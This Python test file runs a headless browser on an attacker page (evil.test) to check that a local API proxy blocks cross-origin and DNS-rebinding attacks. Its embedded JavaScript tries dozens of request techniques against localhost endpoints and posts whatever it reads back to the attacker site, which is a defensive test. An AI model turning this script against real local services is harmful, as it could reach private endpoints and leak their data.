"""Attacks by a web page in a real browser on this machine: using the proxy, or reading its responses.

Chromium opens a page whose script tries everything a page may try and posts to the test what it could read. The
attacker's names resolve to this machine, as the owner of a domain can arrange.
"""

import asyncio
import json
import shutil
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from aiohttp import web

from tests.conftest import needs, settings_for
from tests.support.fake_upstream import FakeUpstream, RawServer, Received, TokenHost
from tests.support.proxy_process import serving
from tests.support.raw_client import RawResponse, call, connect

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome") or ""
RULES = ("MAP *.test 127.0.0.1", "EXCLUDE localhost", "EXCLUDE 127.0.0.1", "EXCLUDE 0.0.0.0", "MAP * ~NOTFOUND")
FLAGS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-breakpad"),
    *("--no-proxy-server", f"--host-resolver-rules={', '.join(RULES)}"),
    "--disable-popup-blocking",  # as a click of the visitor would
)
TIMEOUT = 50.0  # seconds

ORDERS = "/orders/v0/orders"
NAMES = ("127.0.0.1", "localhost", "rebind.test", "0.0.0.0")  # host names of this machine that a page may use

# Attempts of a page on an address. Each returns the text that it could read, or nothing, or fails.
ATTEMPTS = """
const load = (tag, attributes) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = () => resolve(element);
  element.onerror = () => reject(`no ${tag}`);
  document.body.append(element);
});
const framed = (go) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = `frame ${document.querySelectorAll("iframe").length}`;
  document.body.append(frame);
  frame.onload = () => resolve(frame);
  go(frame);
}).then((frame) => frame.contentDocument.body.textContent);
const form = (frame, attributes, field) => {
  const form = Object.assign(document.createElement("form"), { target: frame.name, ...attributes });
  form.append(Object.assign(document.createElement("input"), { name: field }));
  document.body.append(form);
  form.submit();
};
const text = (url, options) => fetch(url, options).then((response) => response.text());
const ended = (source, good) => new Promise((resolve, reject) => {
  source[good] = (event) => resolve(event.data ?? "open");
  source.onerror = () => reject("no connection");
});

const attempts = {
  "fetch": (url) => text(url),
  "fetch-header": (url) => text(url, { headers: { "x-sp-account": "acme" } }),
  "fetch-post": (url) => text(url, { method: "POST", body: "{}" }),
  "fetch-json": (url) => text(url, { method: "POST", body: "{}", headers: { "content-type": "application/json" } }),
  "fetch-put": (url) => text(url, { method: "PUT", body: "{}" }),
  "fetch-delete": (url) => text(url, { method: "DELETE" }),
  "no-cors-get": (url) => text(url, { mode: "no-cors" }),
  "no-cors-head": (url) => text(url, { mode: "no-cors", method: "HEAD" }),
  "no-cors-post": (url) => text(url, { mode: "no-cors", method: "POST", body: "{}", keepalive: true }),
  "no-cors-no-referrer": (url) => text(url, { mode: "no-cors", referrerPolicy: "no-referrer" }),
  "redirected": (url) => text(`/redirect?${encodeURIComponent(url)}`, { mode: "no-cors" }),
  "xhr": (url) => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = () => reject("no response");
    request.open("GET", url);
    request.send();
  }),
  "beacon": async (url) => { navigator.sendBeacon(url, "{}"); },
  "websocket": (url) => ended(new WebSocket(url.replace("http:", "ws:")), "onopen"),
  "event-source": (url) => ended(new EventSource(url), "onmessage"),
  "worker": (url) => ended(new Worker(URL.createObjectURL(new Blob(
    [`try { importScripts("${url}"); } finally { postMessage(""); }`]))), "onmessage"),
  "image": (url) => load("img", { src: url }).then(() => ""),
  "script": (url) => load("script", { src: url }).then(() => ""),
  "module": (url) => load("script", { src: url, type: "module" }).then(() => ""),
  "stylesheet": (url) => load("link", { href: url, rel: "stylesheet" }).then((link) => link.sheet.cssRules[0].cssText),
  "preload": (url) => load("link", { href: url, rel: "preload", as: "image" }).then(() => ""),
  "prefetch": (url) => load("link", { href: url, rel: "prefetch" }).then(() => ""),
  "font": (url) => new FontFace("font", `url(${url})`).load().then(() => ""),
  "object": (url) => load("object", { data: url }).then((object) => object.contentDocument.body.textContent),
  "iframe": (url) => framed((frame) => { frame.src = url; }),
  "form-get": (url) => framed((frame) => form(frame, { action: url, method: "GET" }, "form-get")),
  "form-post": (url) => framed((frame) => form(frame, { action: url, method: "POST" }, "field")),
  "form-text": (url) => framed((frame) => form(frame, { action: url, method: "POST", enctype: "text/plain" }, "{}")),
  "window": async (url) => { open(url); },
  "navigation": async (url) => { open("about:blank").location = url; },
};
"""

# Attempts that can read responses of their own site; the others can only send.
READERS = {
    *("fetch", "fetch-header", "fetch-post", "fetch-json", "fetch-put", "fetch-delete"),
    *("no-cors-get", "no-cors-post", "no-cors-no-referrer", "redirected", "xhr"),
    *("stylesheet", "object", "iframe", "form-get", "form-post", "form-text"),
}

TRY_ALL = """
const read = {};
Promise.all(targets.flatMap((target) => Object.entries(attempts).map(async ([name, attempt]) => {
  const url = `${target}?${name}`;
  read[url] = await attempt(url).catch(() => "") ?? "";
}))).then(() => fetch("/report", { method: "POST", body: JSON.stringify(read) }));
"""

TRY_AS_ITS_OWN = """
fetch(`${control}/wait`).then(async () => {
  const attempts = {
    get: {}, head: { method: "HEAD" }, header: { headers: { "x-sp-account": "acme" } }, post: { method: "POST" },
  };
  const statuses = {};
  for (const [name, options] of Object.entries(attempts)) statuses[name] = (await fetch(path, options)).status;
  fetch(`${control}/report`, { method: "POST", body: JSON.stringify(statuses) });
});
"""


def page(script: str, **constants: object) -> str:
    """Return a page that runs a script."""
    given = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in constants.items())
    return f"<!doctype html><body><script>{given}{script}</script>"


@dataclass
class Site:
    """The attacker's web site: its page, the page's report, and readable content at every other path."""

    page: str = ""
    report: dict[str, Any] = field(default_factory=dict)
    reported: asyncio.Event = field(default_factory=asyncio.Event)
    page_waits: asyncio.Event = field(default_factory=asyncio.Event)
    page_continues: asyncio.Event = field(default_factory=asyncio.Event)

    async def handle(self, request: web.BaseRequest) -> web.Response:
        response = await self._respond(request)
        response.headers["Access-Control-Allow-Origin"] = "*"
        response.force_close()
        return response

    async def _respond(self, request: web.BaseRequest) -> web.Response:
        match request.path:
            case "/":
                return web.Response(text=self.page, content_type="text/html")
            case "/redirect":
                return web.Response(status=307, headers={"Location": unquote(request.query_string)})
            case "/wait":
                self.page_waits.set()
                await self.page_continues.wait()
            case "/report":
                self.report = json.loads(await request.read())
                self.reported.set()
        is_style = "text/css" in request.headers.get("Accept", "")
        return web.Response(text="p { color: red; }", content_type="text/css" if is_style else "text/html")

    @asynccontextmanager
    async def listening(self) -> AsyncIterator[int]:
        """Serve on a free port of 127.0.0.1, and yield it."""
        runner = web.ServerRunner(web.Server(self.handle), shutdown_timeout=1.0)
        await runner.setup()
        try:
            await web.TCPSite(runner, "127.0.0.1", 0).start()
            yield runner.addresses[0][1]
        finally:
            await runner.cleanup()


def url_of(request: Received) -> str:
    """Return the URL that was requested; an empty form field counts as a bare word."""
    return f"http://{request.get('host')}{request.target.removesuffix('=')}"


@dataclass
class Tap(RawServer):
    """Proxy in front of a listener that records each request with its response."""

    address: str = ""
    exchanges: list[tuple[Received, RawResponse]] = field(default_factory=list)
    answered: asyncio.Event = field(default_factory=asyncio.Event)

    async def respond(self, request: Received, writer: asyncio.StreamWriter) -> None:
        lines = [request.line, *(f"{name}: {value}" for name, value in request.fields), "", ""]
        async with connect(self.address) as client:
            await client.send("\r\n".join(lines).encode("latin-1") + request.body)
            got = await client.read_response(request.method)
        self.exchanges.append((request, got))
        self.answered.set()
        framing = {"content-length", "transfer-encoding"}
        lines = [f"{name}: {value}" for name, value in got.fields if name.lower() not in framing]
        head = "\r\n".join([f"HTTP/1.1 {got.status} {got.reason}", *lines, f"content-length: {len(got.body)}", "", ""])
        writer.write(head.encode("latin-1") + got.body)
        await writer.drain()

    def urls(self) -> set[str]:
        """Return the requested URLs."""
        return {url_of(request) for request, _ in self.exchanges}

    async def has_responded(self, urls: set[str]) -> None:
        """Wait until all of them have a response."""
        with suppress(TimeoutError):
            async with asyncio.timeout(TIMEOUT):
                while not urls <= self.urls():
                    self.answered.clear()
                    await self.answered.wait()
        assert urls - self.urls() == set(), "these never came"


@asynccontextmanager
async def browsing(url: str, folder: Path) -> AsyncIterator[None]:
    """Open a page in a browser with a new profile, and end it."""
    browser = await asyncio.create_subprocess_exec(
        *(CHROMIUM, *FLAGS, f"--user-data-dir={folder / 'profile'}", url), stderr=asyncio.subprocess.DEVNULL
    )
    try:
        yield
    finally:
        if browser.returncode is None:
            browser.terminate()
        await asyncio.wait_for(browser.wait(), TIMEOUT)


@pytest.fixture(autouse=True)
def chromium() -> None:
    """Skip the tests if there is no browser."""
    needs(bool(CHROMIUM), "chromium")


async def attack(name: str, tap: Tap, paths: tuple[str, ...], folder: Path) -> None:
    """Let a page on `name` try everything: all of it arrives, and the page reads only its own content."""
    site = Site()
    async with site.listening() as port:
        own = f"http://{name}:{port}/own"
        doors = [f"http://{host}:{tap.port}" for host in NAMES]
        targets = [own, *(door + path for door in doors for path in paths)]
        site.page = page(ATTEMPTS + TRY_ALL, targets=targets)
        async with browsing(f"http://{name}:{port}/", folder):
            await asyncio.wait_for(site.reported.wait(), TIMEOUT)
            tried = {url for url in site.report if not url.startswith(own)}
            icons = {f"{door}/favicon.ico" for door in doors}  # requested by the browser itself, as same-origin
            await tap.has_responded(tried | icons)
    assert {url for url, text in site.report.items() if text} == {f"{own}?{attempt}" for attempt in READERS}
    responses = [(url_of(request), got) for request, got in tap.exchanges]
    assert [(url, got.status) for url, got in responses if url in tried and got.status not in {403, 421}] == []
    assert [
        url for url, got in responses if any(field.lower().startswith("access-control") for field, _ in got.fields)
    ] == []


@pytest.mark.parametrize("name", ["evil.test", "localhost"])
@pytest.mark.timeout(120)
async def test_a_web_page_can_neither_send_anything_to_amazon_nor_read_a_response(
    name: str, fake_upstream: FakeUpstream, token_host: TokenHost, tmp_path: Path
) -> None:
    async with serving(settings_for(fake_upstream, token_host), tmp_path) as proxy:
        async with Tap(address=proxy.addresses[0]) as tap:
            await attack(name, tap, (ORDERS,), tmp_path)
        assert (fake_upstream.received, token_host.received) == ([], [])
        assert (await call(proxy.addresses[0], "GET", ORDERS)).status == 200
        assert (len(fake_upstream.received), len(token_host.received)) == (1, 1)
    logged = Counter(line["error"] for line in proxy.lines() if line["message"] == "request")
    assert logged >= Counter(got.error for _, got in tap.exchanges)
    assert set(logged) == {"BrowserRefused", "HostRefused", ""}
    assert logged[""] == 1


@pytest.mark.parametrize("name", ["evil.test", "localhost"])
@pytest.mark.timeout(120)
async def test_a_web_page_cannot_read_the_admin_address(
    name: str, fake_upstream: FakeUpstream, token_host: TokenHost, tmp_path: Path
) -> None:
    async with serving(settings_for(fake_upstream, token_host), tmp_path) as proxy:
        assert proxy.admin is not None
        async with Tap(address=proxy.admin) as tap:
            await attack(name, tap, ("/metrics", "/readyz", "/", "/requests"), tmp_path)
            assert (fake_upstream.received, token_host.received) == ([], [])
            assert (await call(f"127.0.0.1:{tap.port}", "GET", "/metrics")).body.startswith(b"# HELP")
            assert (await call(f"127.0.0.1:{tap.port}", "GET", "/readyz")).body == b"ok\n"
        assert (await call(proxy.addresses[0], "GET", ORDERS)).status == 200
        assert fake_upstream.received


@pytest.mark.parametrize(
    ("listener", "path", "posted"),
    [
        ("listen", ORDERS, 403),  # it has an Origin, which is checked first
        ("admin", "/metrics", 421),
    ],
)
@pytest.mark.timeout(120)
async def test_dns_rebinding_to_this_machine_gives_no_access(
    listener: str, path: str, posted: int, fake_upstream: FakeUpstream, token_host: TokenHost, tmp_path: Path
) -> None:
    """DNS rebinding: for the browser the page and the proxy are one origin, so that `Host` alone tells them apart."""
    site = Site()
    async with site.listening() as control, AsyncExitStack() as before:
        port = await before.enter_async_context(site.listening())
        site.page = page(TRY_AS_ITS_OWN, control=f"http://control.test:{control}", path=path)
        async with browsing(f"http://rebind.test:{port}/", tmp_path):
            await asyncio.wait_for(site.page_waits.wait(), TIMEOUT)
            await before.aclose()
            address = f"127.0.0.1:{port}"
            async with serving({**settings_for(fake_upstream, token_host), listener: address}, tmp_path) as proxy:
                site.page_continues.set()
                await asyncio.wait_for(site.reported.wait(), TIMEOUT)
                assert (fake_upstream.received, token_host.received) == ([], [])
                assert site.report == {"get": 421, "head": 421, "header": 421, "post": posted}
                assert (await call(address, "GET", path)).status == 200
                assert (await call(proxy.addresses[0], "GET", ORDERS)).status == 200
                assert fake_upstream.received
